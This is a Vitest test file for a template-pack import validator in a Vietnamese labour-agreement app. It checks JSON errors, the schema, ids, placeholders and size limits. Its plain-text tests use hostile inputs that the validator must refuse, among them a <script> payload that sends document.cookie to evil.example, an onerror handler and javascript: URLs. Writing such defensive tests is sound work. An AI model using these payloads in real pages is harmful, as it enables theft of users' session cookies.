import { describe, expect, it } from 'vitest';
import { templateLibrary } from '#shared/templates/library';
import {
  checkTemplatePack,
  maxPackBytes,
  maxPackTemplates,
  packSizeProblem,
  utf8ByteLength,
  type PackCheckResult,
  type TemplatePack,
} from '#shared/templates/pack';
import { describePackProblems, problemPlace, type PackProblem } from '#shared/templates/packProblems';
import { parseJsonText } from '#shared/templates/jsonSyntax';
import { unsafeTextProblem } from '#shared/templates/textSafety';
import { canteenVariable, mealAllowanceVariable, mealTemplate, packFile, samplePack } from '../helpers/templateFixtures';

// Template packs come from outside: every check says WHAT is wrong and WHERE (a path into the
// pack, or a line and column of the file), and a pack with any problem is refused whole.

const checkPack = (text: string): PackCheckResult => checkTemplatePack(text, templateLibrary());

/** A problem as the English reader sees it: where, and what. */
interface ProblemInEnglish {
  path: string;
  message: string;
}

function refusedProblems(result: PackCheckResult): PackProblem[] {
  if (result.ok) throw new Error('expected the pack to be refused, but it was accepted');
  return result.problems;
}

const inEnglish = (problems: readonly PackProblem[]): ProblemInEnglish[] =>
  problems.map((problem) => ({ path: problemPlace(problem).en, message: problem.message.en }));

function problemsOf(result: PackCheckResult): ProblemInEnglish[] {
  return inEnglish(refusedProblems(result));
}

/** A sample pack changed by `edit` (on a deep copy), checked as a file. */
function editedPackProblems(edit: (pack: TemplatePack & Record<string, unknown>) => void): PackProblem[] {
  const pack = structuredClone(samplePack(3)) as TemplatePack & Record<string, unknown>;
  edit(pack);
  return refusedProblems(checkPack(packFile(pack)));
}

function checkEdited(edit: (pack: TemplatePack & Record<string, unknown>) => void): ProblemInEnglish[] {
  return inEnglish(editedPackProblems(edit));
}

const template = (pack: TemplatePack, index: number) => {
  const found = pack.templates[index];
  if (!found) throw new Error(`the sample pack has no templates[${index}]`);
  return found;
};

describe('a valid pack', () => {
  it('is accepted and read back exactly as written (with a byte-order mark too)', () => {
    const pack = samplePack(3);
    for (const text of [packFile(pack), `\uFEFF${packFile(pack)}`, JSON.stringify(pack)]) {
      const result = checkPack(text);
      expect(result).toEqual({ ok: true, pack });
    }
  });

  it('the built-in library has no id that a user id ("user." prefix) could take', () => {
    const library = templateLibrary();
    const ids = [...library.templates.map((t) => t.id), ...library.variables.map((v) => v.id)];
    expect(ids.length).toBeGreaterThan(200);
    expect(ids.filter((id) => id.startsWith('user.'))).toEqual([]);
  });
});

describe('JSON syntax errors say the line and column', () => {
  it.each([
    [
      'a missing comma',
      '{\n  "format": "thoa-uoc-template-pack"\n  "version": 1\n}',
      'line 3, column 3',
      /expected "," or "\}" after a property value, found "\\""/,
    ],
    ['a trailing comma', '{\n  "templates": [1, 2,]\n}', 'line 2, column 22', /expected a value .*found "\]"/],
    ['a file cut short', '{\n  "format": "thoa-uoc-template-pack",\n  "variables": [', 'line 3, column 17', /found the end of the file/],
    ['single quotes', "{\n  'format': 1\n}", 'line 2, column 3', /expected a property name in double quotes, found "'"/],
    [
      'a raw line break in a string',
      '{\n  "format": "thoa-uoc-\ntemplate-pack"\n}',
      'line 2, column 23',
      /a line break is written \\n.*found the control character U\+000A/,
    ],
    ['text after the pack', '{"format": "x"} {"format": "y"}', 'line 1, column 17', /expected the end of the file after the JSON value/],
    ['a bad escape', '{"format": "\\x41"}', 'line 1, column 13', /expected a valid escape/],
    ['an empty file', '', 'line 1, column 1', /expected a value .*found the end of the file/],
  ])('%s', (_what, text, where, message) => {
    const problems = problemsOf(checkPack(text));
    expect(problems).toEqual([{ path: where, message: expect.stringMatching(message) }]);
    expect(problems[0]?.message).toMatch(/^the file is not valid JSON: /);
  });

  it('hostile nesting (half a megabyte of "[") is reported, not a stack overflow', () => {
    const text = '['.repeat(500_000);
    expect(problemsOf(checkPack(text))).toEqual([{ path: 'line 1, column 500001', message: expect.stringMatching(/found the end of the file/) }]);
  });

  it('columns count characters, not bytes, and a byte-order mark is not a column', () => {
    const result = parseJsonText('\uFEFF{"tiêu đề": "Điều 1",\n "x": tru}');
    expect(result).toEqual({
      ok: false,
      error: { line: 2, column: 7, message: { en: expect.stringMatching(/expected a value/), vi: expect.stringMatching(/^cần một giá trị/) } },
    });
  });
});

describe('the shape of the pack (strict: unknown fields refused)', () => {
  it('not an object, another format, a newer version', () => {
    expect(problemsOf(checkPack('[1, 2]'))).toEqual([
      { path: 'the whole file', message: expect.stringMatching(/must be a JSON object .* found a list of 2 items/) },
    ]);
    expect(problemsOf(checkPack('{"format": "vscode-snippets"}'))).toEqual([
      {
        path: 'format',
        message: expect.stringMatching(/must be "thoa-uoc-template-pack", found the text "vscode-snippets": this file is not a Thỏa Ước template pack/),
      },
    ]);
    expect(checkEdited((pack) => Object.assign(pack, { version: 2 }))).toEqual([
      { path: 'version', message: expect.stringMatching(/version 2, made by a newer Thỏa Ước/) },
    ]);
  });

  it('wrong types name the field, what was expected and what was found', () => {
    const problems = checkEdited((pack) => {
      Object.assign(template(pack, 1), { version: '3' });
      Object.assign(pack.variables[0] ?? {}, { default: true });
      Object.assign(template(pack, 2).body[1] ?? {}, { text: 'Điều 5' });
      Object.assign(pack, { exportedAt: 'yesterday' });
    });
    expect(problems).toEqual(
      expect.arrayContaining([
        { path: 'templates[1].version', message: 'must be a number, found the text "3"' },
        { path: 'variables[0].default', message: 'must be a number or a text in double quotes, found true' },
        { path: 'templates[2].body[1].text', message: 'must be an object {...}, found the text "Điều 5"' },
        { path: 'exportedAt', message: expect.stringMatching(/must be a date and time in UTC .* found the text "yesterday"/) },
      ]),
    );
    expect(problems).toHaveLength(4);
  });

  it('a missing field, and unknown fields anywhere', () => {
    const problems = checkEdited((pack) => {
      Reflect.deleteProperty(template(pack, 0), 'legalBasis');
      Object.assign(template(pack, 1), { onLoad: 'steal()' });
      Object.assign(template(pack, 2).body[0] ?? {}, { html: '<b>x</b>' });
      Object.assign(pack, { signature: 'abc' });
    });
    expect(problems).toEqual(
      expect.arrayContaining([
        { path: 'templates[0].legalBasis', message: expect.stringMatching(/is missing \(a list \[\.\.\.\] is required\)/) },
        { path: 'templates[1].onLoad', message: expect.stringMatching(/unknown field/) },
        { path: 'templates[2].body[0].html', message: expect.stringMatching(/unknown field/) },
        { path: 'signature', message: expect.stringMatching(/unknown field/) },
      ]),
    );
  });

  it('an unknown variable type names the type and lists the known ones', () => {
    const problems = checkEdited((pack) => Object.assign(pack.variables[1] ?? {}, { type: 'colour' }));
    expect(problems).toEqual([
      { path: 'variables[1].type', message: expect.stringMatching(/^unknown variable type "colour"; the types are money, percent, days, .*headcount$/) },
    ]);
  });
});

describe('ids', () => {
  it('duplicate template and variable ids name both places', () => {
    const problems = checkEdited((pack) => {
      template(pack, 2).id = template(pack, 0).id;
      pack.variables.push({ ...canteenVariable, label: { vi: 'Khác', en: 'Other' } });
    });
    expect(problems).toEqual([
      { path: 'variables[2].id', message: '"user.canteen_mode" is already the id of variables[1]; ids in a pack must be unique' },
      { path: 'templates[2].id', message: '"user.union.meal_0" is already the id of templates[0]; ids in a pack must be unique' },
    ]);
  });

  it('built-in ids are refused, and user ids must start with "user."', () => {
    const problems = checkEdited((pack) => {
      template(pack, 0).id = 'cla.time.public_holidays';
      template(pack, 1).id = 'my.meals';
      pack.variables.push({ ...mealAllowanceVariable, id: 'region', type: 'region', default: 'I', min: undefined, max: undefined });
    });
    expect(problems).toEqual(
      expect.arrayContaining([
        {
          path: 'templates[0].id',
          message: expect.stringMatching(/^"cla\.time\.public_holidays" is the id of a built-in template; a user template needs an id of its own/),
        },
        { path: 'templates[1].id', message: expect.stringMatching(/^"my\.meals" must start with "user\."/) },
        { path: 'variables[2].id', message: expect.stringMatching(/^"region" is the id of a built-in variable/) },
      ]),
    );
  });
});

describe('placeholders and values', () => {
  it('a placeholder must name a built-in variable or one of the pack', () => {
    const problems = checkEdited((pack) => {
      const block = template(pack, 1).body[1];
      if (block) block.text = { vi: 'Phụ cấp {{user.night_bonus}}.', en: 'A bonus of {{user.night_bonus}}.' };
    });
    expect(problems).toEqual([
      {
        path: 'templates[1].body[1].text.vi',
        message: "uses the variable {{user.night_bonus}}, which is neither a built-in variable nor one of the pack's variables",
      },
      {
        path: 'templates[1].body[1].text.en',
        message: "uses the variable {{user.night_bonus}}, which is neither a built-in variable nor one of the pack's variables",
      },
    ]);
  });

  it('a pack that relies on user variables must carry them', () => {
    const pack = { ...samplePack(1), variables: [canteenVariable] };
    expect(problemsOf(checkPack(packFile(pack))).map((p) => p.path)).toEqual([
      'templates[0].alternatives[0].values["user.meal_per_shift"]',
      'templates[0].body[1].text.vi',
      'templates[0].body[1].text.en',
      'templates[0].alternatives[0].body[0].text.vi',
      'templates[0].alternatives[0].body[0].text.en',
    ]);
  });

  it('malformed placeholders, stray braces, placeholders outside body texts, languages that disagree', () => {
    const problems = checkEdited((pack) => {
      const [first, second] = template(pack, 0).body;
      if (first) first.text = { vi: 'Mức {{ Tiền Ăn }} một ca.', en: 'A meal of {{user.meal_per_shift}} a shift.' };
      if (second) second.text = { vi: 'Đóng ngoặc thừa }} ở đây {{user.canteen_mode}}.', en: 'A stray }} here {{user.canteen_mode}}.' };
      template(pack, 1).title.en = 'Meals ({{user.meal_per_shift}})';
      const third = template(pack, 2).body[0];
      if (third) third.text = { vi: 'Bữa ăn giữa ca do bếp ăn tập thể phục vụ.', en: 'Meals are provided through {{user.canteen_mode}}.' };
    });
    const stray = 'has a "{{" or "}}" that does not belong to a {{variable_id}} placeholder';
    expect(problems).toEqual([
      { path: 'templates[0].body[0].text.vi', message: '"{{ Tiền Ăn }}" is not a placeholder: write {{variable_id}} with the id of a variable' },
      { path: 'templates[0].body[1].text.vi', message: stray },
      { path: 'templates[0].body[1].text.en', message: stray },
      { path: 'templates[1].title.en', message: '{{variable}} placeholders work only in the texts of body blocks' },
      { path: 'templates[2].body[0].text', message: 'both languages must use the same variables: {{user.canteen_mode}} is in en but not in vi' },
    ]);
  });

  it('variable defaults and proposed values must be valid for their variable', () => {
    const problems = checkEdited((pack) => {
      Object.assign(pack.variables[0] ?? {}, { default: 5000 });
      Object.assign(pack.variables[1] ?? {}, { default: 'buffet' });
      const alternative = template(pack, 2).alternatives[0];
      if (alternative) alternative.values = { 'user.meal_per_shift': 1_000_000, ot_rate_weekday: 50 };
    });
    expect(problems).toEqual([
      { path: 'variables[0].default', message: 'the default is not valid. Mid-shift meal allowance: must be a whole number between ₫15,000 and ₫200,000.' },
      { path: 'variables[1].default', message: 'the default is not valid. How meals are provided: must be one of: a staff canteen; cash.' },
      {
        path: 'templates[2].alternatives[0].values["user.meal_per_shift"]',
        message: expect.stringMatching(/^the proposed value is not valid\. Mid-shift meal allowance: must be a whole number between/),
      },
      { path: 'templates[2].alternatives[0].values.ot_rate_weekday', message: expect.stringMatching(/^the proposed value is not valid\./) },
    ]);
  });

  it('a variable needs a default, and no wording may propose a procedural fact (the vote, the signing)', () => {
    const problems = checkEdited((pack) => {
      delete (pack.variables[0] as { default?: unknown }).default;
      const alternative = template(pack, 2).alternatives[0];
      if (alternative) alternative.values = { vote_in_favour: 51, signing_date: '2027-01-27' };
    });
    expect(problems).toEqual([
      { path: 'variables[0].default', message: 'a variable needs a default value' },
      {
        path: 'templates[2].alternatives[0].values.vote_in_favour',
        message: expect.stringMatching(/^"vote_in_favour" is recorded by the document's lifecycle/),
      },
      { path: 'templates[2].alternatives[0].values.signing_date', message: expect.stringMatching(/^"signing_date" is recorded by the document's lifecycle/) },
    ]);
  });

  it('enum variables need options, unique ones; a range must not be upside down', () => {
    const problems = checkEdited((pack) => {
      pack.variables.push({ id: 'user.empty_choice', type: 'enum', label: { vi: 'Trống', en: 'Empty' }, default: 'a', options: [] });
      pack.variables.push({
        ...canteenVariable,
        id: 'user.twice',
        options: [...(canteenVariable.options ?? []), { value: 'cash', label: { vi: 'tiền', en: 'money' } }],
      });
      pack.variables.push({ ...mealAllowanceVariable, id: 'user.upside_down', min: 10, max: 5, default: 7 });
    });
    expect(problems).toEqual([
      { path: 'variables[2].options', message: 'an enum variable needs at least one option' },
      { path: 'variables[3].options[2].value', message: 'the option "cash" appears twice' },
      { path: 'variables[4].min', message: 'the minimum 10 is above the maximum 5' },
    ]);
  });
});

describe('texts are plain text', () => {
  const hostile: [string, string, RegExp][] = [
    ['a <script> tag', 'Điều khoản <script>fetch("https://evil.example/?c="+document.cookie)</script>', /contains a <script> tag/],
    ['HTML markup', 'Tiền thưởng <b>Tết</b>', /contains HTML markup "<b>"/],
    ['an image with an event handler', 'Xem <img src=x onerror=alert(1)>', /event-handler attribute "onerror="/],
    ['a javascript: URL', 'Xem javascript:alert(1)', /contains a script URL "javascript:"/],
    ['an HTML comment', 'Điều 5 <!-- ẩn -->', /contains HTML markup/],
    ['encoded markup', 'Điều 5 &lt;script&gt;', /HTML character reference "&lt;"/],
    ['a bell character', 'Điều 5\u0007', /control character U\+0007 \(only line breaks and tabs are allowed\)/],
    ['a carriage return', 'Dòng một\r\nDòng hai', /control character U\+000D/],
    ['a right-to-left override', 'Tiền lương \u202Egnol', /text-direction control U\+202E/],
  ];

  it.each(hostile)('%s in a body text is refused, with its path', (_what, text, message) => {
    const problems = checkEdited((pack) => {
      const block = template(pack, 2).body[0];
      if (block) block.text.en = text;
    });
    expect(problems).toEqual([{ path: 'templates[2].body[0].text.en', message: expect.stringMatching(message) }]);
  });

  it('every string is checked: titles, labels, option labels, text defaults', () => {
    const problems = checkEdited((pack) => {
      template(pack, 0).title.vi = '<h1>Bữa ăn</h1>';
      const option = pack.variables[1]?.options?.[1];
      if (option) option.label.en = 'javascript:void(0)';
      pack.variables.push({ id: 'user.canteen_name', type: 'text', label: { vi: 'Tên bếp', en: 'Canteen' }, default: '<i>Bếp</i>' });
    });
    expect(problems.map((problem) => problem.path)).toEqual(['variables[1].options[1].label.en', 'variables[2].default', 'templates[0].title.vi']);
  });

  it('ordinary legal text passes: "<" before a number, "&" between words, tabs and line breaks', () => {
    for (const text of ['Người lao động dưới 18 tuổi (< 18) làm việc không quá 8 giờ', 'Phòng R&D; khoản 2', 'Một\tHai\nBa', 'Condition = one; only A']) {
      expect(unsafeTextProblem(text), text).toBeNull();
    }
  });

  it('an over-long text is refused with its length and the limit', () => {
    const problems = checkEdited((pack) => {
      const block = template(pack, 1).body[0];
      if (block) block.text.vi = 'Đ'.repeat(4001);
      template(pack, 2).title.en = 'T'.repeat(1001);
    });
    expect(problems).toEqual([
      { path: 'templates[1].body[0].text.vi', message: 'the text is 4,001 characters long, over the limit of 4,000' },
      { path: 'templates[2].title.en', message: 'the text is 1,001 characters long, over the limit of 1,000' },
    ]);
  });
});

describe('size and counts', () => {
  it('a 50 MB file is refused at once, from its length alone', () => {
    const text = `{"format": "thoa-uoc-template-pack", "padding": "${'x'.repeat(50 * 1024 * 1024)}"}`;
    const result = checkPack(text);
    expect(result).toMatchObject({ ok: false, tooLarge: true });
    expect(problemsOf(result)).toEqual([
      { path: 'the whole file', message: expect.stringMatching(/^the file is larger than 1 MiB \(1,048,576 bytes of UTF-8\), the limit for a template pack$/) },
    ]);
  });

  it('the limit is on UTF-8 bytes: 400,000 Vietnamese letters are 1.2 MB', () => {
    const text = packFile({ ...samplePack(1), padding: 'ệ'.repeat(400_000) });
    expect(text.length).toBeLessThan(maxPackBytes);
    expect(utf8ByteLength(text)).toBeGreaterThan(maxPackBytes);
    expect(packSizeProblem(text)?.en).toMatch(/larger than 1 MiB/);
    expect(packSizeProblem(packFile(samplePack(1)))).toBeNull();
    for (const sample of ['Tiếng Việt 😀', 'lẻ \uD800 x', 'cuối \uDBFF']) expect(utf8ByteLength(sample), sample).toBe(new TextEncoder().encode(sample).length);
  });

  it('at most 2,000 templates', () => {
    const small = {
      ...mealTemplate('user.x'),
      title: { vi: 'Đ', en: 'A' },
      body: [{ type: 'clause' as const, text: { vi: 'Điều', en: 'Article' } }],
      alternatives: [],
    };
    const pack = { ...samplePack(0), templates: Array.from({ length: maxPackTemplates + 1 }, (_, index) => ({ ...small, id: `user.t${index}` })) };
    const text = JSON.stringify(pack);
    expect(text.length).toBeLessThan(maxPackBytes);
    expect(problemsOf(checkPack(text))).toEqual([{ path: 'templates', message: 'holds 2,001 templates; a pack holds at most 2,000' }]);
    expect(checkPack(JSON.stringify({ ...pack, templates: pack.templates.slice(0, maxPackTemplates) })).ok).toBe(true);
  });

  it('many problems are listed up to twenty, with how many more there are', () => {
    const problems = editedPackProblems((pack) => {
      for (let index = 0; index < 30; index += 1) pack.templates.push({ ...mealTemplate(`user.bad_${index}`), title: { vi: `<u>${index}</u>`, en: 'x' } });
    });
    expect(problems).toHaveLength(30);
    const message = describePackProblems(problems).en;
    expect(message).toMatch(
      /^30 problems: \(1\) templates\[3\]\.title\.vi: contains HTML markup "<u>" \(template texts are plain text, without tags\) \(2\) templates\[4\]/,
    );
    expect(message).toMatch(/ \(20\) templates\[22\]\.title\.vi: [^(]*\([^)]*\) … and 10 more$/);
    expect(describePackProblems(problems.slice(0, 1)).en).toBe(
      'templates[3].title.vi: contains HTML markup "<u>" (template texts are plain text, without tags)',
    );
  });
});

describe('every problem reads in Vietnamese as well as in English', () => {
  // Words that only English has: one of them in a Vietnamese message means an English phrase leaked in.
  const englishWords = /(?<![\p{L}\p{N}_])(the|must|found|expected|holds|which|is|are|only|line|column|file|not|of|a|an|and|or)(?![\p{L}\p{N}_])/iu;
  /** A message without what it quotes of the pack (texts in quotes, placeholders, paths, JSON keywords). */
  const ownWords = (message: string): string =>
    message
      .replace(/"[^"]*"/g, '')
      .replace(/\{\{[^}]*\}\}/g, '')
      .replace(/\b[\w.]+\[\d+\][\w.[\]]*/g, '')
      .replace(/\b(true|false|null|JSON|UTF-8|MiB|enum|vi|en|format|version|exportedAt|variables|templates|money|U\+[0-9A-F]{4})\b/g, '');

  const bad: [string, () => PackProblem[]][] = [
    ['not JSON', () => refusedProblems(checkPack('{\n  "format": 1,\n}'))],
    ['not an object', () => refusedProblems(checkPack('[1, 2]'))],
    ['another format', () => refusedProblems(checkPack('{"format": "vscode-snippets"}'))],
    ['a newer version', () => refusedProblems(checkPack(packFile({ ...samplePack(1), version: 99 })))],
    ['too large', () => refusedProblems(checkPack(`{"padding": "${'x'.repeat(maxPackBytes)}"}`))],
    [
      'wrong shapes',
      () =>
        editedPackProblems((pack) => {
          Object.assign(template(pack, 0), { title: 42, kinds: ['nowhere'], surplus: true });
          Object.assign(pack.variables[0] ?? {}, { type: 'colour' });
          pack.templates.push({ ...mealTemplate('user.empty'), body: [] });
        }),
    ],
    [
      'texts, placeholders and ids',
      () =>
        editedPackProblems((pack) => {
          const first = template(pack, 0);
          first.title = { vi: '<b>Tiêu đề</b>', en: 'Title {{x}}' };
          first.body = [
            { type: 'clause', text: { vi: 'Mức {{user.nowhere}} và {{ bad id }} }}', en: 'Rate {{ot_rate_weekday}}' } },
            { type: 'clause', text: { vi: 'x'.repeat(4_001), en: 'javascript:alert(1)' } },
          ];
          first.alternatives = [
            {
              id: 'twice',
              level: 'favourable',
              label: { vi: 'Một', en: 'One' },
              body: first.body.slice(0, 1),
              values: { vote_date: '2027-01-01', 'user.nowhere': 1 },
            },
            { id: 'twice', level: 'favourable', label: { vi: 'Hai', en: 'Two' }, body: first.body.slice(0, 1), values: { ot_rate_weekday: -5 } },
          ];
          pack.templates.push({ ...mealTemplate('leave.annual') }, { ...mealTemplate('no_prefix') }, { ...mealTemplate('no_prefix') });
        }),
    ],
    [
      'variable definitions',
      () =>
        editedPackProblems((pack) => {
          pack.variables = [
            { ...canteenVariable, options: [] },
            { ...mealAllowanceVariable, id: 'user.rate', options: [{ value: 'a', label: { vi: 'A', en: 'A' } }], min: 10, max: 1, rule: 'Bad Rule!' },
            { ...canteenVariable, id: 'user.twice', options: [...(canteenVariable.options ?? []), { value: 'cash', label: { vi: 'Tiền', en: 'Cash' } }] },
            { ...mealAllowanceVariable, id: 'user.no_default', default: undefined },
            { ...mealAllowanceVariable, id: 'user.bad_default', default: 1 },
          ];
        }),
    ],
  ];

  it.each(bad)('%s', (_what, problemsOf) => {
    const problems = problemsOf();
    expect(problems.length).toBeGreaterThan(0);
    for (const problem of problems) {
      expect(problem.message.vi, problem.message.en).not.toBe(problem.message.en);
      expect(ownWords(problem.message.vi), problem.message.vi).not.toMatch(englishWords);
      expect(ownWords(problemPlace(problem).vi)).not.toMatch(englishWords);
    }
  });
});
